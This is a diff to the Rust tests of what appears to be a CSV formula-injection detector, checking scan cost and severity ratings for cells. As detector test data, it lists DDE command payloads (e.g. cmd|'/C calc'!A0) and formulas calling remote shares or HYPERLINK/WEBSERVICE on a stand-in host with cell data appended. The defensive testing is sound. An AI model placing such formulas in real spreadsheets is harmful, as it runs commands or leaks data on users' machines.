@@ -3,14 +3,48 @@
 use super::*;
 use crate::Limits;
 
-#[test]
-fn a_row_of_endless_formulas_is_paid_for() {
-    let mut budget = Budget::new(crate::Limits {
-        wall: std::time::Duration::from_millis(50),
-        ..crate::Limits::default()
+/// What is paid for the cells of a table beyond its bytes.
+fn paid(text: &str) -> u64 {
+    let mut table = Table::new(text);
+    let mut notes = Notes::default();
+    let mut budget = Budget::new(Limits::default());
+    let mut paid = 0;
+    let end = cells::walk(text.as_bytes(), separator(text), &mut budget, |cell| {
+        let bytes = table.look(cell, &mut notes);
+        paid += bytes;
+        bytes
     });
-    let end = check(&",=".repeat(100_000), &mut Notes::default(), &mut budget);
-    assert_eq!(end, Err(Unscannable::Timeout));
+    assert_eq!(end, Ok(()));
+    paid
+}
+
+#[test]
+fn a_table_of_missing_values_costs_nothing() {
+    for cell in ["-", "\"-\"", "-/-", "+", "\"+/-\"", "=", "@", "--"] {
+        for delimiter in [",", ";", "\t", "|"] {
+            let row = [cell; 1000].join(delimiter);
+            assert_eq!(
+                paid(&format!("{row}\n{row}\r\n{row}")),
+                0,
+                "{cell}{delimiter}"
+            );
+        }
+    }
+}
+
+#[test]
+fn a_line_is_searched_once_for_all_its_cells() {
+    for cell in [
+        "=", "-\t", "=\"", "-x|", "=a(\"", "-\"|a", "=A1", "\"=\"x", "\"=a\"", "@a|b!", "＝x", " ",
+        "=  ", "\"\"=", "+-+-", "-a(", "-'", "\"\"\"=",
+    ] {
+        for delimiter in [",", ";", "\t", "|", ""] {
+            let row = vec![cell; 20_000].join(delimiter);
+            let text = format!("a,b\n1,{row}");
+            let most = 400 * 20_000 + 64 * text.len() as u64;
+            assert!(paid(&text) < most, "{cell}{delimiter} {}", paid(&text));
+        }
+    }
 }
 
 fn worst(text: &str) -> Option<Severity> {
@@ -60,6 +94,24 @@ fn plain_cells_are_left_alone() {
         "-3-4",
         "+/-5",
         "=-=",
+        "- cmd | findstr x!",
+        "-powershell | more",
+        "\"- cmd | findstr 'x' y!\"",
+        "- image (left)",
+        "\"- image (left), query(x)\"",
+        "- image(s) per patient",
+        "- query (open)",
+        "+query (long)",
+        "- call (missed)",
+        "-image(3)",
+        "@image(alt)",
+        "-shell(weight)",
+        "- item one (see A|B!)",
+        "- x | y",
+        "-foo|bar",
+        "- it's 'http://a.invalid' for a!",
+        "-\\\\a",
+        "-\tx",
     ] {
         assert_eq!(worst(&format!("a,b\n1,{cell}\n")), None, "{cell}");
     }
@@ -89,6 +141,17 @@ fn commands_are_malicious_however_they_are_quoted() {
         "\u{200b}=cmd|' /C calc'!A0",
         "=1+EXEC(\"calc\")",
         "=+-+cmd|'/C x'!A0",
+        "\"=\ncmd|'/C x'!A0\"",
+        "\"=1+\r\n cmd|'/C \"\"x'!A0\"",
+        "\"=1+\"\"a\"\"&cmd|'/C x'!A0\"",
+        "=calc|a!b",
+        "=1+calc|a!b",
+        "=   C  m D   |   ' /  c  calc '  !  A",
+        "+thespanishinquisition(cmd|'/c calc.exe'!A",
+        "-A1,cmd|'/C x'!A0",
+        "=\tcmd|'/C x'!A0",
+        "-\tcmd|'/C x'!A0",
+        "-,-,-1,=cmd|'/C x'!A0",
     ] {
         for delimiter in [",", ";", "\t", "|"] {
             assert_eq!(
@@ -109,6 +172,18 @@ fn reaching_out_is_suspicious_and_arithmetic_is_active() {
         "+IMAGE(\"http://x\")",
         "＝cmd|'/C x'!A0",
         "='\\\\host\\share\\[a.xls]S'!A1",
+        "+'\\\\host\\share\\[a.xls]S'!A1",
+        "-\\\\host\\share\\[a.xls]S!A1",
+        "=SUM('\\\\host\\share\\[a.xls]S'!A1)",
+        "\"=INDIRECT(\"\"'\\\\host\\s\\[a.xls]S'!A1\"\")\"",
+        "='[http://a.invalid/x.xlsx]S'!A1",
+        "=\"a\"&'https://a.invalid/[x.xlsx]S'!A1",
+        "\"=\nHYPERLINK(\"\"http://a.invalid?\"\"&A1,\"\"x\"\")\"",
+        "\"=A1&\nWEBSERVICE(\"\"http://a.invalid?\"\"&A1)\"",
+        "- IMAGE (\"http://x\")",
+        "+calc|a!b",
+        "-2+3+calc|a!b",
+        "@A1*calc|a!b",
     ] {
         assert_eq!(
             worst(&format!("1,{cell}\n")),
@@ -129,5 +204,28 @@ fn reaching_out_is_suspicious_and_arithmetic_is_active() {
             Some(Severity::Active),
             "{cell}"
         );
+    }
+}
+
+#[test]
+fn a_formula_is_judged_over_its_whole_length() {
+    let sum = "1+".repeat(10_000);
+    for (start, end) in [("=", ""), ("\"=", "\""), ("-", ""), ("\"@", "\"")] {
+        let text = format!("a,b\n1,{start}{sum}cmd|'/C x'!A0{end}\n");
+        assert_eq!(worst(&text), Some(Severity::Malicious), "{start}");
+    }
+    let call = format!("a\n=IF(1,{sum}1,HYPERLINK(\"http://a.invalid\"))\n");
+    assert_eq!(worst(&call), Some(Severity::Suspicious));
+}
+
+#[test]
+fn the_first_line_names_the_separator() {
+    for separator in ["^", ":", " ", "x", "\u{a7}", "~"] {
+        for word in ["sep=", "SEP=", "\u{feff}sep="] {
+            let text = format!("{word}{separator}\n1{separator}=cmd|'/C x'!A0\n");
+            assert_eq!(worst(&text), Some(Severity::Malicious), "{text}");
+        }
+        let text = format!("a\n1{separator}=cmd|'/C x'!A0\n");
+        assert_eq!(worst(&text), None, "{text}");
     }
 }
